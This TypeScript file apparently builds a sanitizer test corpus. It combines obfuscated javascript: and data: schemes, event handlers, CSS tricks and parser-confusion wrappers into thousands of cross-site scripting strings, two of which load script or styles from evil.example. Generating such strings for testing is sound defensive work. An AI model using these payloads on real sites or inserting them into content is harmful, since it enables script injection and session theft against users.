/** Ways to write an address that runs code. */
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'jav&#x09;ascript:alert(1)',
  'view-source:javascript:alert(1)',
];
/** Attributes that load an address, with an element that has them. */
const LOADERS = [
  ['a', 'href'],
  ['area', 'href'],
  ['img', 'src'],
  ['iframe', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['video', 'poster'],
  ['svg', 'xlink:href'],
  ['math', 'href'],
  ['link', 'href'],
  ['base', 'href'],
  ['body', 'background'],
  ['img', 'srcset'],
] as const;
const ELEMENTS = 'a b img svg math details video audio body input select marquee table span div p li iframe'.split(' ');
const EVENTS = 'onload onerror onclick onfocus onmouseover ontoggle onstart onbegin onanimationend onpointerdown'.split(
  ' ',
);
const STYLES = [
  'background:url(javascript:alert(1))',
  'width:expression(alert(1))',
  '-moz-binding:url(x)',
  'behavior:url(x.htc)',
  '@import "x"',
  'color:\\72 ed;background:\\75 rl(x)',
];
/** Around a hostile part: what a parser may read differently from a browser. */
const WRAPS: ((part: string) => string)[] = [
  (part) => part,
  (part) => `"><${part.slice(1)}`,
  (part) => `<p>${part}`,
  (part) => `<svg><style>${part}</style></svg>`,
  (part) => `<math><mi><table>${part}</table></mi></math>`,
  (part) => `<noscript><p title="</noscript>${part}">`,
  (part) => `<!--${part}--!>${part}`,
  (part) => `<textarea>${part}`,
  (part) => `<title>${part}</title>`,
  (part) => `<template>${part}</template>`,
];

/** Injections made from these parts: thousands, the same in every run. For clones without the collected ones. */
export function hostileTexts(): string[] {
  const parts = [
    '<script>alert(1)</script>',
    '<script src=//evil.example></script>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<%00script>alert(1)</script>',
    '<style>@import "//evil.example"</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ...LOADERS.flatMap(([element, attribute]) =>
      SCHEMES.flatMap((scheme) => [
        `<${element} ${attribute}="${scheme}">x</${element}>`,
        `<${element}/${attribute}=${scheme.replaceAll(/\s/g, '')} >x`,
      ]),
    ),
    ...ELEMENTS.flatMap((element) =>
      EVENTS.flatMap((event) => [
        `<${element} ${event}=alert(1)>x</${element}>`,
        `<${element.toUpperCase()} ${event}\n=\n"alert(1)" src=x>x`,
      ]),
    ),
    ...STYLES.map((style) => `<span style='${style}'>x</span>`),
  ];
  const markdown = SCHEMES.flatMap((scheme) => [
    `[x](${scheme})`,
    `![x](${scheme})`,
    `<${scheme}>`,
    `[x]: ${scheme}\n\n[x]`,
  ]);
  return [...parts.flatMap((part) => WRAPS.map((wrap) => wrap(part))), ...markdown];
}
